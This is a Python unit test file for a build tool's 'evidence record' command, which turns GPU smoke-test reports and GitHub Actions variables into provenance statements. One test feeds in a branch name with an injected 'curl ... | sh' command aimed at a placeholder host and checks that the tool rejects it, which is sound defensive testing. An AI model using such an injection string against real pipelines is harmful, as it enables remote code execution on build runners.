"""`evidence record`: a statement from a smoke report and the GitHub Actions environment."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.unit.evidence_builders import (
    HEAD,
    IMAGE_REFS,
    INPUTS,
    MANIFEST,
    NOW,
    REPO,
    REPO_ID,
    entry,
    github_env,
    smoke_report,
    write_json,
)
from twinbuild.errors import ConfigError
from twinbuild.evidence import record, save
from twinbuild.evidence.statement import PREDICATE_TYPE, STATEMENT_TYPE, Statement
from twinbuild.util import strictjson


def _record(tmp_path: Path, report: dict[str, Any], **env: str) -> Statement:
    return record(write_json(tmp_path / "smoke.json", report), env=github_env(**env), now=NOW)


def test_statement_from_a_passing_run(tmp_path: Path) -> None:
    statement = _record(tmp_path, smoke_report("cuda"))
    data = statement.to_dict()
    assert data["_type"] == STATEMENT_TYPE
    assert data["predicateType"] == PREDICATE_TYPE
    assert data["subject"] == [
        {"name": "ghcr.io/twinbuild/cuda", "digest": {"sha256": "3" * 64}},
        {"name": "pins/manifest.toml", "digest": {"sha256": "a" * 64}},
    ]
    p = data["predicate"]
    assert p["platform"] == "cuda"
    assert p["source"] == {
        "repository": REPO,
        "repository_id": REPO_ID,
        "head_repository": REPO,
        "head_repository_id": REPO_ID,
        "commit": HEAD,
        "ref": "refs/heads/validate/pr-42",
        "pr": 42,
    }
    assert p["run"] == {
        "event": "push",
        "workflow_ref": f"{REPO}/.github/workflows/gpu.yml@refs/heads/validate/pr-42",
        "run_id": 9001,
        "run_attempt": 1,
        "actor": "maintainer",
        "runner_name": "gpu-h200-1",
        "runner_environment": "self-hosted",
    }
    assert p["build"] == {
        "profile": "production",
        "inputs_hash": INPUTS["cuda"],
        "base_digest": "sha256:" + "b" * 64,
        "image_id": "sha256:" + "1" * 64,
        "image_ref": IMAGE_REFS["cuda"],
        "manifest_digest": MANIFEST,
    }
    assert p["gpu"]["model"] == "NVIDIA H200"
    assert p["results"]["verdict"] == "passed"
    assert p["results"]["counts"] == {"passed": 2, "failed": 0, "skipped": 0, "flaky": 0}
    assert p["created_at"] == "2025-06-01T12:00:00Z"
    assert Statement.from_dict(data, source="s") == statement


def test_unpushed_image_is_named_by_platform_and_id(tmp_path: Path) -> None:
    report = smoke_report("rocm")
    report["image"]["digest"] = None
    subject = _record(tmp_path, report).image_subject()
    assert (subject.name, subject.sha256) == ("twinbuild/rocm", "2" * 64)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"tests": [entry("a"), entry("b", "failed")]}, "a test failed"),
        ({"gpu": None}, "no GPU was seen"),
        ({"tests": [entry("a", "skipped"), entry("b", "skipped")]}, "all skipped"),
        ({"tests": []}, "zero tests"),
        ({"tests": [entry("a", gpu=False)]}, "no GPU test"),
        (
            {
                "gpu": {
                    "vendor": "amd",
                    "model": "MI300X",
                    "driver": "x",
                    "runtime": "6.4",
                    "count": 1,
                }
            },
            "wrong vendor",
        ),
    ],
)
def test_a_run_that_did_not_validate_is_recorded_failed(
    tmp_path: Path, change: dict[str, Any], why: str
) -> None:
    report = smoke_report("cuda", **change)
    if "tests" in change:
        report["counts"] = {
            k: sum(1 for t in change["tests"] if t["outcome"] == k)
            for k in ("passed", "failed", "skipped")
        } | {"flaky": 0}
    assert _record(tmp_path, report).predicate.results.verdict == "failed", why


def test_counts_that_disagree_with_tests_are_refused(tmp_path: Path) -> None:
    report = smoke_report("cuda", tests=[entry("a", "failed")])
    report["counts"] = {"passed": 1, "failed": 0, "skipped": 0, "flaky": 0}
    with pytest.raises(ConfigError) as info:
        _record(tmp_path, report)
    assert str(info.value) == (
        f"{tmp_path / 'smoke.json'}: report.counts: 1 passed, 0 failed, 0 skipped, 0 flaky "
        "disagrees with its tests (0 passed, 1 failed, 0 skipped, 0 flaky); the report is "
        "inconsistent, re-run the smoke tests"
    )


def test_a_tag_without_digest_is_refused(tmp_path: Path) -> None:
    report = smoke_report("cuda")
    report["image"]["digest"] = "ghcr.io/twinbuild/cuda:latest"
    with pytest.raises(ConfigError) as info:
        _record(tmp_path, report)
    assert str(info.value) == (
        f"{tmp_path / 'smoke.json'}: report.image.digest: 'ghcr.io/twinbuild/cuda:latest' is a "
        "tag without a digest; tags move, evidence binds digests: push the image and record "
        "repository@sha256:..."
    )


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"schema": 2}, "report.schema: 2 is not 1; update twinbuild"),
        ({"platform": "metal"}, "report.platform: 'metal' is not one of cuda, rocm"),
        (
            {"manifest_digest": "abc"},
            "report.manifest_digest: 'abc' is not a digest like sha256:<64 hex>",
        ),
        ({"counts": "3"}, "report.counts: expected an object, got str"),
        ({"extra": 1}, "report.extra: unknown key"),
        ({"gpus": None}, "report.gpus: unknown key; perhaps you meant 'gpu'?"),
    ],
)
def test_malformed_reports(tmp_path: Path, change: dict[str, Any], message: str) -> None:
    report = smoke_report("cuda")
    report.update(change)
    with pytest.raises(ConfigError) as info:
        _record(tmp_path, report)
    assert str(info.value) == f"{tmp_path / 'smoke.json'}: {message}"


def test_a_truncated_report_records_nothing(tmp_path: Path) -> None:
    path = tmp_path / "smoke.json"
    path.write_text(json.dumps(smoke_report("cuda"))[:50])
    with pytest.raises(ConfigError, match="ends early"):
        record(path, env=github_env(), now=NOW)


def test_missing_environment_variable(tmp_path: Path) -> None:
    env = github_env()
    del env["GITHUB_RUN_ATTEMPT"]
    with pytest.raises(ConfigError) as info:
        record(write_json(tmp_path / "s.json", smoke_report()), env=env, now=NOW)
    assert str(info.value) == (
        "$GITHUB_RUN_ATTEMPT is not set; `evidence record` runs inside a GitHub Actions job "
        "(set the GITHUB_* variables by hand for a dry run)"
    )


def test_a_branch_name_with_shell_metacharacters_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as info:
        _record(tmp_path, smoke_report(), GITHUB_REF="refs/heads/validate/x;curl${IFS}e.vil|sh")
    assert str(info.value) == (
        "$GITHUB_REF: 'refs/heads/validate/x;curl${IFS}e.vil|sh' has characters outside "
        "[A-Za-z0-9._/-]; name validation branches like validate/pr-123"
    )


def test_a_pull_request_run_records_the_fork_as_head(tmp_path: Path) -> None:
    event = write_json(
        tmp_path / "event.json",
        {
            "pull_request": {
                "number": 7,
                "head": {"repo": {"full_name": "mallory/twinbuild", "id": 666}},
            },
        },
    )
    statement = _record(
        tmp_path,
        smoke_report(),
        GITHUB_EVENT_NAME="pull_request",
        GITHUB_EVENT_PATH=str(event),
        GITHUB_REF="refs/pull/7/merge",
    )
    source = statement.predicate.source
    assert (source.head_repository, source.head_repository_id, source.pr) == (
        "mallory/twinbuild",
        666,
        7,
    )


def test_save_writes_a_statement_that_parses_back(tmp_path: Path) -> None:
    statement = _record(tmp_path, smoke_report("rocm"))
    save(statement, tmp_path / "rocm.statement.json")
    loaded = strictjson.load(tmp_path / "rocm.statement.json")
    assert Statement.from_dict(loaded, source="s") == statement
